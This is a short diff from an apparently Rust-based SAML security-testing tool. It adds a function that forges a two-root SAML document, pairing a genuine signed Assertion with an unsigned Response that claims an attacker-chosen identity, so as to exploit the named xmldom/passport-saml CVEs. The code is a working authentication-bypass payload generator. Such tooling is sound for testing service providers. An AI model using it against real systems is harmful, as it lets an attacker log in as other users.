@@ -282,6 +282,27 @@ pub fn cdata_in_name_id(signed_xml: &str, visible_prefix: &str) -> Result<String
     Ok(doc.to_xml())
 }
 
+/// Two root elements: the attacker's signed Assertion on its own (its namespaces declared on it, so exclusive
+/// C14N digests the same bytes), then the Response with every signature removed and its Assertion claiming
+/// `evil_name_id`. A well-formed document has exactly one root (XML 1.0 §2.1); a parser that keeps going after
+/// the first lets an SP verify one root and read the other (CVE-2022-39299 passport-saml with xmldom before
+/// 0.7.7, CVE-2022-39353).
+pub fn second_root(signed_xml: &str, evil_name_id: &str) -> Result<String, SamlIdpError> {
+    let mut doc = Document::parse(signed_xml)?;
+    let root_scope = doc.root_scope();
+    let index = assertion_index(&doc)?;
+    let mut signed = element_at(&mut doc.root, index)?.clone();
+    if signed.child(DSIG_NS, "Signature").is_none() {
+        return Err(SamlIdpError::NotApplicable("the Assertion is unsigned".into()));
+    }
+    signed.keep_namespaces(&root_scope, &Scope::default());
+    let evil = evil_assertion(element_at(&mut doc.root, index)?, evil_name_id)?;
+    doc.root.children[index] = Node::Element(evil);
+    doc.root.remove_descendants(DSIG_NS, "Signature");
+    doc.root.set_attr("ID", &evil_id());
+    Ok(format!("{}{}", signed.to_xml(), doc.root.to_xml()))
+}
+
 /// The namespace of [`foreign_namespace_assertion`]'s decoy: the SAML assertion namespace with a suffix.
 pub const DECOY_NS: &str = "urn:oasis:names:tc:SAML:2.0:assertion:decoy";
 
